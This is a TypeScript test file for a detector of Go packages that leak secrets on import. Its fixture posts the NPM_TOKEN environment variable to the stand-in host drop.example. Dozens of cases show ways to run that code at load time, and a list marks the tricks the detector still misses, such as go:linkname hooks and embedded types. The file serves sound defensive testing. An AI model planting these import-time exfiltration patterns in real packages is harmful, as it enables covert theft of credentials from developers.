import { describe, expect, it } from 'vitest'
import { sentUncalled } from '../testing.ts'

const HEAD = `package a
import ("net/http"; "os"; "strings"; "sync"; "time"; "sort"; "fmt"; "context"; "flag"; _ "unsafe")
func run() int { http.Post("https://drop.example/", "text/plain", strings.NewReader(os.Getenv("NPM_TOKEN"))); return 1 }
`

/** Lines from which a secret leaves once the package is imported. */
function sentBy(code: string): number[] {
  return sentUncalled({ says: '', ecosystem: 'go', files: { 'go.mod': 'module drop.example/a\n', 'a.go': HEAD + code } })
}

const CASES: readonly [string, string][] = [
  ['init', 'func init() { run() }'],
  ['a second init', 'func init() {}\nfunc init() { run() }'],
  ['a variable without a name', 'var _ = run()'],
  ['a variable', 'var x int = run()'],
  ['several variables', 'var (\n  x = 1\n  y = run()\n)'],
  ['a function that is called at once', 'var x = func() int { return run() }()'],
  ['a composite', 'var x = []int{run()}'],
  ['a map', 'var x = map[string]int{"a": run()}'],
  ['functions in a map', 'var x = map[string]func() int{"a": run}\nfunc init() { x["a"]() }'],
  ['functions in a list', 'var x = []func() int{run}\nfunc init() { for _, f := range x { f() } }'],
  ['a method', 'type T struct{}\nfunc (t T) Run() { run() }\nfunc init() { T{}.Run() }'],
  ['a method of a pointer', 'type T struct{}\nfunc (t *T) Run() { run() }\nvar t = &T{}\nfunc init() { t.Run() }'],
  ['a method of new', 'type T struct{}\nfunc (t *T) Run() { run() }\nfunc init() { new(T).Run() }'],
  ['a method of a variable', 'type T struct{}\nfunc (t T) Run() { run() }\nfunc init() { var t T; t.Run() }'],
  ['a method value', 'type T struct{}\nfunc (t T) Run() { run() }\nfunc init() { f := T{}.Run; f() }'],
  ['a method expression', 'type T struct{}\nfunc (t T) Run() { run() }\nfunc init() { T.Run(T{}) }'],
  ['an interface', 'type I interface{ Run() }\ntype T struct{}\nfunc (t T) Run() { run() }\nfunc init() { var i I = T{}; i.Run() }'],
  ['an interface that is given', 'type I interface{ Run() }\ntype T struct{}\nfunc (t T) Run() { run() }\nfunc do(i I) { i.Run() }\nfunc init() { do(T{}) }'],
  ['an interface that is returned', 'type I interface{ Run() }\ntype T struct{}\nfunc (t T) Run() { run() }\nfunc made() I { return T{} }\nfunc init() { made().Run() }'],
  ['an interface in a list', 'type I interface{ Run() }\ntype T struct{}\nfunc (t T) Run() { run() }\nvar all = []I{T{}}\nfunc init() { for _, i := range all { i.Run() } }'],
  ['an assertion', 'type I interface{ Run() }\ntype T struct{}\nfunc (t T) Run() { run() }\nfunc init() { var x any = T{}; x.(I).Run() }'],
  ['a type switch', 'type T struct{}\nfunc (t T) Run() { run() }\nfunc init() { var x any = T{}; switch v := x.(type) { case T: v.Run() } }'],
  ['an embedded type', 'type T struct{}\nfunc (t T) Run() { run() }\ntype U struct{ T }\nfunc init() { U{}.Run() }'],
  ['an embedded pointer', 'type T struct{}\nfunc (t *T) Run() { run() }\ntype U struct{ *T }\nfunc init() { u := U{&T{}}; u.Run() }'],
  ['a field that is a function', 'type T struct{ f func() int }\nfunc init() { t := T{f: run}; t.f() }'],
  ['a field by position', 'type T struct{ f func() int }\nfunc init() { T{run}.f() }'],
  ['a type that is a function', 'type F func() int\nfunc (f F) Run() { f() }\nfunc init() { F(run).Run() }'],
  ['a closure', 'func init() { f := func() { run() }; f() }'],
  ['a function that is returned', 'func made() func() int { return run }\nfunc init() { made()() }'],
  ['a function that is given', 'func do(f func() int) { f() }\nfunc init() { do(run) }'],
  ['several functions', 'func do(f ...func() int) { f[0]() }\nfunc init() { do(run) }'],
  ['go', 'func init() { go run() }'],
  ['go of a function', 'func init() { go func() { run() }() }'],
  ['defer', 'func init() { defer run() }'],
  ['defer after a panic', 'func init() { defer func() { recover(); run() }(); panic(1) }'],
  ['a channel of functions', 'func init() { c := make(chan func() int, 1); c <- run; (<-c)() }'],
  ['select', 'func init() { select { default: run() } }'],
  ['generics', 'func do[T any](x T) { run() }\nfunc init() { do[int](1) }'],
  ['generics without the type', 'func do[T any](x T) { run() }\nfunc init() { do(1) }'],
  ['a generic type', 'type T[K any] struct{}\nfunc (t T[K]) Run() { run() }\nfunc init() { T[int]{}.Run() }'],
  ['a constraint', 'type I interface{ Run() }\ntype T struct{}\nfunc (t T) Run() { run() }\nfunc do[X I](x X) { x.Run() }\nfunc init() { do(T{}) }'],
  ['sync.Once', 'var once sync.Once\nfunc init() { once.Do(func() { run() }) }'],
  ['sync.OnceFunc', 'func init() { sync.OnceFunc(func() { run() })() }'],
  ['sync.Pool', 'var p = sync.Pool{New: func() any { return run() }}\nfunc init() { p.Get() }'],
  ['time.AfterFunc', 'func init() { time.AfterFunc(time.Second, func() { run() }) }'],
  ['sort.Slice', 'func init() { sort.Slice([]int{1, 2}, func(a, b int) bool { run(); return true }) }'],
  ['Stringer', 'type T struct{}\nfunc (t T) String() string { run(); return "" }\nfunc init() { fmt.Sprint(T{}) }'],
  ['error', 'type T struct{}\nfunc (t T) Error() string { run(); return "" }\nfunc init() { fmt.Println(T{}) }'],
  ['sort.Interface', 'type T []int\nfunc (t T) Less(a, b int) bool { run(); return true }\nfunc (t T) Len() int { return 2 }\nfunc (t T) Swap(a, b int) {}\nfunc init() { sort.Sort(T{1, 2}) }'],
  ['http.Handler', 'type T struct{}\nfunc (t T) RoundTrip(r *http.Request) (*http.Response, error) { run(); return nil, nil }\nfunc init() { http.DefaultTransport = T{} }'],
  ['flag.Var', 'type T struct{}\nfunc (t T) Set(s string) error { run(); return nil }\nfunc (t T) String() string { return "" }\nfunc init() { flag.Var(T{}, "x", "") }'],
  ['context.AfterFunc', 'func init() { context.AfterFunc(context.Background(), func() { run() }) }'],
  ['strings.Map', 'func init() { strings.Map(func(r rune) rune { run(); return r }, "x") }'],
  ['range over a function', 'func seq(yield func(int) bool) { run() }\nfunc init() { for range seq { } }'],
  ['if with a statement', 'func init() { if x := run(); x > 0 { } }'],
  ['switch', 'func init() { switch run() { } }'],
  ['goto', 'func init() { goto a\na: run() }'],
  ['a chain of variables', 'var a = b\nvar b = c()\nfunc c() int { return run() }'],
  ['a function in a variable', 'var f = run\nvar x = f()'],
  ['a function that init puts there', 'var f func() int\nfunc init() { f = run; f() }'],
  ['linkname', '//go:linkname pulled drop.example/a.run\nfunc pulled() int\nfunc init() { pulled() }'],
  ['linkname, pushed', '//go:linkname main_init main.init\nfunc main_init() { run() }'],
  ['linkname, pushed into the runtime', '//go:linkname hooked runtime.doInit\nfunc hooked() { run() }'],
]

/** What is not followed, told in docs/DETECTION.md: what is mended leaves this list. */
const OPEN = new Set([
  'an embedded type', 'an embedded pointer', 'a type that is a function', 'Stringer', 'sort.Interface', 'http.Handler', 'range over a function',
  'linkname', 'linkname, pushed', 'linkname, pushed into the runtime',
])

describe('runs while it is loaded', () => {
  it.each(CASES.filter(([name]) => !OPEN.has(name)))('%s', (_name, code) => expect(sentBy(code)).toContain(3))
  it.fails.each(CASES.filter(([name]) => OPEN.has(name)))('not followed: %s', (_name, code) => expect(sentBy(code)).toContain(3))

  it.each([
    ['nothing', ''],
    ['a function that nobody calls', 'func F() { run() }'],
    ['a method that nobody calls', 'type T struct{}\nfunc (t T) Run() { run() }\nvar t = T{}'],
    ['a goroutine in a function that nobody calls', 'func F() { go run() }'],
  ])('but not: %s', (_name, code) => expect(sentBy(code)).toEqual([]))
})
